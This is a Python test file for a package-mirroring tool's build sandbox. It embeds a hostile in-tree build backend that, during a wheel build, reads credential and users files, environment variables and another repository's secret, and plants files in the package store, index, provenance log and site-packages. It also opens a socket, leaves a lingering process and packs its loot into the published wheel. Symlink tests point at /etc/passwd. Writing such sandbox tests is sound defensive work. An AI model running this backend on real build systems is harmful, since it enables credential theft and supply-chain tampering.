"""A watched repository's build is hostile: it reaches nothing outside its own tree.

The `evil` repository's in-tree backend (`backend-path = ["."]`) tries, while its wheel is
built, every attack of the security probe: read another repository's credential (the
credentials directory, $CREDENTIALS_DIRECTORY, /run/credentials), the users file and another
repository's mirror; write into the store, the index, the provenance file and the build
environments; connect to a loopback listener; and leave a process behind. It records what
each attempt got in `loot.json` inside its wheel, which is then published: the test reads
the published files and the host afterwards. Each of these fails on an unsandboxed build.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import os
import signal
import socket
import threading
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest
from dulwich.index import commit_tree
from dulwich.objects import Blob
from dulwich.repo import Repo

from pypi_insiders import config
from pypi_insiders.errors import BuildError
from pypi_insiders.fetch import builder, git, runner
from pypi_insiders.fetch.sandbox import SandboxError
from pypi_insiders.store import Store
from tests.conftest import ConfigMaker
from tests.support import git_fixtures as g
from tests.support.build_fixtures import build_request

pytestmark = pytest.mark.slow

EVIL_BACKEND = r'''
"""Builds like intree_backend, after trying every attack in ATTACK.json; loot.json says what worked."""
import glob, json, os, socket, subprocess, sys, zipfile
import intree_backend as base

_LOOT = None

def _read(loot, label, path):
    try:
        with open(path, errors="replace") as stream:
            loot[label] = stream.read()
    except Exception as error:
        loot[label] = "failed: " + type(error).__name__

def _write(loot, label, path, data, mode="w"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, mode) as stream:
            stream.write(data)
        loot[label] = "written"
    except Exception as error:
        loot[label] = "failed: " + type(error).__name__

def _attack():
    global _LOOT
    if _LOOT is not None:
        return _LOOT
    cfg = json.load(open("ATTACK.json"))
    loot = {}
    _read(loot, "credential", cfg["credential"])
    _read(loot, "credentials_directory", cfg["credentials_directory"])
    for path in glob.glob("/run/credentials/*/*"):
        _read(loot, "run:" + path, path)
    _read(loot, "run_credentials", cfg["run_credential"])
    _read(loot, "users", cfg["users"])
    loot["environ"] = "failed: " + " ".join(f"{k}={v}" for k, v in os.environ.items())
    try:
        done = subprocess.run(["git", "--git-dir", cfg["mirror"], "show", "v1.0:SECRET.txt"],
                              capture_output=True, text=True, timeout=30)
        loot["mirror"] = done.stdout if done.returncode == 0 else "failed: " + done.stderr[-200:]
    except Exception as error:
        loot["mirror"] = "failed: " + type(error).__name__
    _write(loot, "store", cfg["store"] + "/victim-proj/victim_proj-66.6-py3-none-any.whl", "planted")
    _write(loot, "index", cfg["index"] + "/simple/victim-proj/index.html", "planted")
    _write(loot, "provenance", cfg["state"] + "/provenance.jsonl", '{"forged": true}\n', "a")
    for site in glob.glob(cfg["envs"] + "/*/lib/python3*/site-packages") + [
            p for p in sys.path if p.endswith("site-packages")]:
        _write(loot, "env:" + site, site + "/zz_evil.pth", "import os\n")
    try:
        socket.create_connection(("127.0.0.1", cfg["port"]), timeout=3).sendall(b"evil")
        loot["network"] = "connected"
    except OSError as error:
        loot["network"] = "failed: " + type(error).__name__
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", cfg["marker"]],
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    _LOOT = loot
    return loot

def build_sdist(sdist_directory, config_settings=None):
    _attack()
    return base.build_sdist(sdist_directory, config_settings)

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = _attack()
    name = base.build_wheel(wheel_directory, config_settings, metadata_directory)
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "a") as archive:
        archive.writestr("loot.json", json.dumps(loot))
    return name
'''

EVIL_PYPROJECT = """[build-system]
requires = []
build-backend = "evil_backend"
backend-path = ["."]
"""


@contextlib.contextmanager
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback listener that records what anyone sends it."""
    received: list[bytes] = []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    done = threading.Event()

    def serve() -> None:
        while not done.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                received.append(connection.recv(100) or b"(connected)")

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        done.set()
        thread.join()
        server.close()


@contextlib.contextmanager
def run_credential(secret: str) -> Iterator[Path]:
    """A credential where systemd's LoadCredential= puts them (root only, as in CI: as another
    user the build tries a path that does not exist, and the rest of the test runs)."""
    if os.geteuid() != 0:
        yield Path("/run/credentials/not-made-without-root/repo_victim-token")
        return
    directory = Path("/run/credentials") / f"pypi-insiders-test-{uuid.uuid4().hex[:8]}.service"
    directory.mkdir(parents=True)
    try:
        (directory / "repo_victim-token").write_text(secret)
        yield directory / "repo_victim-token"
    finally:
        with contextlib.suppress(OSError):
            (directory / "repo_victim-token").unlink()
            directory.rmdir()


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdigit() and marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
    return found


def published_text(store: Path) -> str:
    """Every published file's content, decompressed: what a reader of the index can get."""
    parts = []
    for path in store.rglob("*"):
        if path.name.endswith(".whl"):
            with zipfile.ZipFile(path) as archive:
                parts += [archive.read(n).decode(errors="replace") for n in archive.namelist()]
        elif path.name.endswith(".tar.gz"):
            parts.append(gzip.decompress(path.read_bytes()).decode(errors="replace"))
    return "\n".join(parts)


def test_sandbox_hostile_build_reaches_nothing_outside_its_tree(make_config: ConfigMaker, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    secrets = {k: f"SECRET-{k}-{uuid.uuid4().hex}" for k in ("credential", "sudo", "run", "users", "source")}
    victim = g.init_repo(tmp_path / "victim", {**g.intree_files("victim-proj"),
                                               "SECRET.txt": secrets["source"] + "\n"})
    g.tag(victim, "v1.0")
    marker = f"evil-daemon-{uuid.uuid4().hex}"
    path = make_config(repos={"victim": {"url": str(victim), "distribution": "victim-proj"},
                              "evil": {"url": str(tmp_path / "evil")}})
    loaded = config.load(str(path))
    loaded.fetch.credentials_dir.mkdir(parents=True)
    (loaded.fetch.credentials_dir / "victim-token").write_text(secrets["credential"])
    loaded.upload.users_file.write_text(f"alice:{secrets['users']}\n")
    sudo_credentials = tmp_path / "memfd-credentials"  # what `sudo pypi-insiders update` hands over
    sudo_credentials.mkdir()
    (sudo_credentials / "repo_victim-token").write_text(secrets["sudo"])
    monkeypatch.setenv("CREDENTIALS_DIRECTORY", str(sudo_credentials))
    secrets["environ"] = f"SECRET-environ-{uuid.uuid4().hex}"
    monkeypatch.setenv("GITHUB_TOKEN", secrets["environ"])  # an administrator's shell, running update
    assert runner.cli_update(loaded, ["victim"]) == 0  # its mirror and build environment exist now
    index_page = loaded.paths.index / "simple" / "victim-proj" / "index.html"
    with listener() as (port, received), run_credential(secrets["run"]) as run_file:
        attack = {"credential": str(loaded.fetch.credentials_dir / "victim-token"),
                  "credentials_directory": str(sudo_credentials / "repo_victim-token"),
                  "run_credential": str(run_file), "users": str(loaded.upload.users_file),
                  "mirror": str(git.mirror_path(loaded, "victim")), "store": str(loaded.paths.store),
                  "index": str(loaded.paths.index), "state": str(loaded.paths.state),
                  "envs": str(loaded.paths.cache / "build-envs" / "envs"), "port": port, "marker": marker}
        g.init_repo(tmp_path / "evil", {**g.intree_files("evil-proj"), "pyproject.toml": EVIL_PYPROJECT,
                                        "evil_backend.py": EVIL_BACKEND, "ATTACK.json": json.dumps(attack)})
        g.tag(tmp_path / "evil", "v1.0")
        try:
            assert runner.cli_update(loaded, ["evil"]) == 0
            left = processes_with(marker)
        finally:
            for pid in processes_with(marker):
                os.kill(pid, signal.SIGKILL)
    wheel = loaded.paths.store / "evil-proj" / "evil_proj-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel) as archive:
        loot = json.loads(archive.read("loot.json"))
    attempts = {k: v for k, v in loot.items() if not k.startswith("run:")}
    assert set(attempts) >= {"credential", "credentials_directory", "run_credentials", "users", "mirror",
                             "store", "index", "provenance", "network"}
    assert any(k.startswith("env:") for k in attempts)  # its own environment at least
    assert all(v.startswith("failed") for v in attempts.values()), attempts
    assert not [k for k in loot if k.startswith("run:")]  # /run/credentials shows nothing at all
    assert not any(s in published_text(loaded.paths.store) for s in secrets.values())
    assert received == []
    assert left == []  # nothing the build started outlives it
    assert {e.relpath for e in Store(loaded.paths.store).walk()} == {
        "victim-proj/victim_proj-1.0-py3-none-any.whl", "victim-proj/victim_proj-1.0.tar.gz",
        "evil-proj/evil_proj-1.0-py3-none-any.whl", "evil-proj/evil_proj-1.0.tar.gz"}
    assert not index_page.exists() or b"planted" not in index_page.read_bytes()
    assert b"forged" not in (loaded.paths.state / "provenance.jsonl").read_bytes()
    assert not list((loaded.paths.cache / "build-envs").rglob("zz_evil.pth"))
    # the other repository goes on building, in an environment nobody changed
    g.commit_files(victim, {"CHANGELOG": "1.2\n"})
    g.tag(victim, "v1.2")
    assert runner.cli_update(loaded, ["victim"]) == 0
    assert (loaded.paths.store / "victim-proj" / "victim_proj-1.2-py3-none-any.whl").is_file()


def _request(make_config: ConfigMaker, tmp_path: Path, files: dict[str, str],
             tag: str = "v1.0") -> builder.BuildRequest:
    upstream = g.init_repo(tmp_path / "up", files)
    g.tag(upstream, tag)
    return build_request(make_config, tmp_path, upstream, tag)


def _repo_with_links(path: Path, files: dict[str, str], links: dict[str, str]) -> Path:
    """A repository whose v1.0 holds these files and symlinks (made as git objects: no link on disk)."""
    repo_path = g.init_repo(path, files)
    repo = Repo(str(repo_path))
    entries = []
    for name, content, mode in [*((n, t, 0o100644) for n, t in files.items()),
                                *((n, t, 0o120000) for n, t in links.items())]:
        blob = cast(Any, Blob).from_string(content.encode())
        cast(Any, repo.object_store).add_object(blob)
        entries.append((name.encode(), blob.id, mode))
    tree = commit_tree(repo.object_store, entries)
    cast(Any, repo).do_commit(b"links", committer=g.IDENTITY, author=g.IDENTITY, tree=tree)
    g.tag(repo_path, "v1.0")
    return repo_path


@pytest.mark.parametrize(("links", "message"), [
    ({"NOTICE.txt": "/etc/passwd"}, "symlink NOTICE.txt with an absolute target (/etc/passwd)"),
    ({"docs/users": "../../users"}, "symlink docs/users that points outside it (../../users)"),
    # each link stays inside on its own; followed one after the other, they leave the tree
    ({"a/b": "..", "c": "a/b/.."}, "symlink c that points outside it (a/b/..)"),
])
def test_sandbox_symlink_leaving_the_tree_fails_the_tag(make_config: ConfigMaker, tmp_path: Path,
                                                        links: dict[str, str], message: str) -> None:
    upstream = _repo_with_links(tmp_path / "up", g.intree_files("linked"), links)
    loaded = config.load(str(make_config(repos={"demo": {"url": str(upstream)}})))
    assert runner.cli_update(loaded, []) == 1
    state = json.loads(next((loaded.paths.state / "repos").iterdir()).read_text())
    assert state["failed_builds"]["1.0"]["error"] == f"repository demo tag v1.0: the tree holds a {message}"
    assert not any(loaded.paths.store.rglob("*.whl"))


def test_sandbox_symlink_inside_the_tree_builds(make_config: ConfigMaker, tmp_path: Path) -> None:
    upstream = _repo_with_links(tmp_path / "up", g.intree_files("linked"), {"README": "NAME", "d/up": ".."})
    loaded = config.load(str(make_config(repos={"demo": {"url": str(upstream)}})))
    assert runner.cli_update(loaded, []) == 0


@pytest.mark.parametrize(("files", "cause"), [
    ({"FAIL": "yes\n"}, "RuntimeError: this build fails on purpose"),
    ({"pyproject.toml": "[build-system\nrequires = []\n"},
     r"pyproject.toml: Expected ']' at the end of a table declaration \(at line 1, column 14\)"),
])
def test_sandbox_failed_build_line_says_why(make_config: ConfigMaker, tmp_path: Path,
                                            files: dict[str, str], cause: str) -> None:
    request = _request(make_config, tmp_path, {**g.intree_files("demo"), **files})
    with pytest.raises(BuildError,
                       match=rf"^repository demo tag v1.0: (build failed \(exit status 1\): )?{cause}$"):
        builder.build(request)


def test_sandbox_that_cannot_be_made_refuses_to_build(make_config: ConfigMaker, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    fake_bin = tmp_path / "bin"
    fake_bin.mkdir()
    (fake_bin / "bwrap").write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\n"
                                    "exit 1\n")
    (fake_bin / "bwrap").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake_bin}:{os.environ['PATH']}")
    upstream = g.init_repo(tmp_path / "up", g.intree_files("demo"))
    g.tag(upstream, "v1.0")
    loaded = config.load(str(make_config(repos={"demo": {"url": str(upstream)}})))
    with pytest.raises(SandboxError, match=r"^cannot build: the build sandbox cannot be made \(bwrap: bwrap: "
                                           r"No permissions to create new namespace\); .*sandbox = \"off\""):
        runner.cli_update(loaded, [])
    assert not any(loaded.paths.store.rglob("*.whl"))


def test_sandbox_off_builds_unsandboxed_with_a_warning(make_config: ConfigMaker, tmp_path: Path,
                                                       caplog: pytest.LogCaptureFixture) -> None:
    upstream = g.init_repo(tmp_path / "up", g.intree_files("demo"))
    g.tag(upstream, "v1.0")
    loaded = config.load(str(make_config(repos={"demo": {"url": str(upstream)}}, fetch={"sandbox": "off"})))
    assert runner.cli_update(loaded, []) == 0
    assert "builds run WITHOUT a sandbox" in caplog.text
    assert any(loaded.paths.store.rglob("*.whl"))
